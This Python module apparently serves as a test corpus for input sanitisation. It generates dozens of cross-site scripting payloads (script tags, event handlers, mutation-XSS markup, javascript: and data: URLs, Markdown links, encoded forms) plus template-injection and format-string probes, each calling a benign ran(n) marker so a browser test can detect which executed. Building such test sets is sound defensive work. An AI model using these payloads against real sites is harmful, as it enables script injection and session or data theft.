"""Texts that would run a script if a value landed in a page as it was typed: kinds of code in kinds of places.

Each calls `ran(number)`, so that a browser can tell which of them did. None is a text that a clinic would write.
"""

from __future__ import annotations

_CODE = "ran(0)"

_TAGS = """
<script>§</script>|<ScRiPt >§</sCrIpT>|<script/x>§</script/x>|<script src="data:text/javascript,§"></script>
<img src=x:x onerror=§>|<img/src=x:x/onerror="§">|<IMG SRC="x:x" ONERROR='§'>|<image src=x:x onerror=§>
<svg onload=§>|<svg/onload="§"/>|<svg><script>§</script></svg>|<svg><script href="data:,§"/></svg>
<svg><animate onbegin=§ attributeName=x dur=1s>|<svg><set onbegin=§ attributename=x>
<svg><a xlink:href="javascript:§"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=§>#x">
<svg><foreignObject><img src=x:x onerror=§></foreignObject></svg>|<svg><style><img src=x:x onerror=§></style></svg>
<body onload=§>|<body onpageshow=§>|<html onclick=§>|<frameset onload=§>|<details open ontoggle=§>
<input autofocus onfocus=§>|<select autofocus onfocus=§>|<textarea autofocus onfocus=§>|<button autofocus onfocus=§>
<p tabindex=1 autofocus onfocus=§ id=x>|<a href=# autofocus onfocus=§>|<marquee onstart=§>x</marquee>
<video src=x:x onerror=§>|<audio src=x:x onerror=§>|<video><source src=x:x onerror=§></video>
<object data="javascript:§">|<object data="data:text/html,<script>parent.§</script>">|<embed src="javascript:§">
<iframe src="javascript:parent.§">|<iframe srcdoc="<script>parent.§</script>">|<iframe onload=§>
<iframe src="data:text/html,<script>parent.§</script>">|<form action="javascript:§"><button autofocus>x</button></form>
<form id=x></form><button form=x formaction="javascript:§">x</button>|<a href="javascript:§">x</a>
<math><mi xlink:href="javascript:§">x</mi></math>|<math href="javascript:§">x</math>|<isindex action="javascript:§">
<base href="javascript:§//">|<meta http-equiv=refresh content="0;url=javascript:§">
<link rel=stylesheet href="data:text/css,x" onload=§>|<style onload=§></style>|<style>@import "x:x"</style onload=§>
<xss style="animation-name:fade" onanimationstart=§>|<x onclick=§ autofocus tabindex=1 onfocus=§>
<table background="javascript:§">|<td background="javascript:§">|<div style="background:url(javascript:§)">
<template><img src=x:x onerror=§></template>|<noembed><img src=x:x onerror=§></noembed>|<applet code="§">
<layer src="javascript:§">|<bgsound src="javascript:§">|<keygen autofocus onfocus=§>|<dialog open onclose=§>
"""
_MUTATING = """
<noscript><p title="</noscript><img src=x:x onerror=§>">
<svg></p><style><a id="</style><img src=x:x onerror=§>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:x onerror=§&gt;">
<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=§ src=x:x>">
<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=§ src=x:x>">
<svg><desc><noscript><img title="</noscript><img src=x:x onerror=§>"></desc></svg>
<p id="</title><img src=x:x onerror=§>">|<xmp><p title="</xmp><img src=x:x onerror=§>">
<textarea><p title="</textarea><img src=x:x onerror=§>">|<title><p title="</title><img src=x:x onerror=§>">
<iframe><p title="</iframe><img src=x:x onerror=§>">|<select><template><img src=x:x onerror=§></template></select>
<table><tr><td><svg><desc><table><style><img src=x:x onerror=§></style>|<!--><img src=x:x onerror=§>-->
<!--!><img src=x:x onerror=§>|<!-- --!><img src=x:x onerror=§>|<![CDATA[><img src=x:x onerror=§>]]>
<?x ><img src=x:x onerror=§>|</ ><img src=x:x onerror=§>|<a<img src=x:x onerror=§>|<plaintext><img src=x:x onerror=§>
<option><style></option></select><img src=x:x onerror=§></style>|<div id="x&quot;><img src=x:x onerror=§>">
"""
_ATTRIBUTES = """
" onmouseover="§|" autofocus tabindex=1 onfocus="§|' onfocus='§' autofocus tabindex='1|x onload=§|` onfocus=`§
"style="x:expression(§)|" srcdoc="<script>parent.§</script>|" formaction="javascript:§|" src=x:x onerror="§|"/onload="§
&quot; onfocus=&quot;§|&#34;&#32;onfocus=&#34;§|x"onfocus=§ autofocus x="|x'/onerror=§/'
"""
_ADDRESSES = """
javascript:§|JaVaScRiPt:§|java	script:§|java\x01script:§| javascript:§|\x01javascript:§|javascript&colon;§
javascript&#58;§|&#106;avascript:§|&#x6A&#x61vascript:§|javascript://x/%0a§|javascript:x;§|vbscript:§|livescript:§
data:text/html,<script>parent.§</script>|data:text/html;base64,PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=
data:image/svg+xml,<svg onload=§>
//x.example/§|/\\x.example/§|\\\\x.example/§|https:x.example|view-source:javascript:§|feed:javascript:§|jar:javascript:§
blob:javascript:§|filesystem:javascript:§|javascript%3A§|javascript\u2028:§|\ufeffjavascript:§|ｊavascript:§
"""
_MARKDOWN = """
[x](javascript:§)|[x](<javascript:§>)|[x](java&#115;cript:§)|[x](data:text/html,§)|![x](javascript:§)|<javascript:§>
![x](x:x"onerror="§)|![x](x:x 'a" onerror="§')|[x](x "a" onclick="§")|[a]: javascript:§ [a]|`<img src=x:x onerror=§>`
x {: onclick=y onfocus=§ }|x { onmouseover="§" }|**<svg/onload=§>**|[<img src=x:x onerror=§>](x)|![<svg onload=§>](x)
[x](vbscript:§)|[x](JAVASCRIPT:§)|[x](	javascript:§)|[![x](x:x" onerror="§)](y)|*[x]: <img src=x:x onerror=§>
"""
_OTHERS = """
&lt;script&gt;§&lt;/script&gt;|&#60;img src=x:x onerror=§&#62;|&amp;lt;script&amp;gt;§
\\u003cscript\\u003e§\\u003c/script\\u003e
%3Cscript%3E§%3C/script%3E|\\x3cscript\\x3e§|＜script＞§＜/script＞|<scr\u200bipt>§</script>|<\u017fcript>§</script>
\u2028§\u2028|';§//|";§//|\\";§//|</script><script>§</script>|--></script><script>§</script>
"}</script><script>§</script>
<!--<script>§|]]><script>§</script>|*/§/*|{{7*7}}|{{config}}|{% include "main.html" %}|${§}|#{§}|<%= § %>|[[§]]
{{constructor.constructor('§')()}}|{{ self.__init__.__globals__ }}|%(§)s|%n%s%x|{0.__class__}
\u202e<img src=x:x onerror=§>
x;background:url(javascript:§)|}*{background:url("javascript:§")|</style><script>§</script>|@import 'javascript:§';
"""
_ENDS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</code></pre>",
    "</a></p></div>",
)
"""What ends a place that a value may land in."""


def _lines(kinds: str) -> list[str]:
    return [one for line in kinds.strip("\n").split("\n") for one in line.split("|")]


def _filled(kind: str) -> str:
    return kind.replace("§", _CODE)


_SHORT = [_filled(one) for one in _lines(_TAGS) + _lines(_MUTATING)]
TEXTS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_SHORT,
            *(end + one for end in _ENDS[1:] for one in _SHORT[:12]),
            *(_filled(one) for kinds in (_ATTRIBUTES, _ADDRESSES, _MARKDOWN, _OTHERS) for one in _lines(kinds)),
        ]
    )
)
"""Every payload. The code in it is `ran(0)`."""

SEEN: tuple[str, ...] = tuple(text for text in TEXTS if text.isprintable() and "ｊ" not in text)
"""Those that hold nothing that is refused wherever it stands, since no reader sees it or takes it for what it is."""

ADDRESSES: tuple[str, ...] = tuple(_filled(one) for one in _lines(_ADDRESSES))
"""Those that are addresses."""


def numbered(first: int = 0) -> list[str]:
    """The payloads, each with a number of its own, so that a browser can tell which has run."""
    return [text.replace(_CODE, f"ran({first + number})") for number, text in enumerate(TEXTS)]
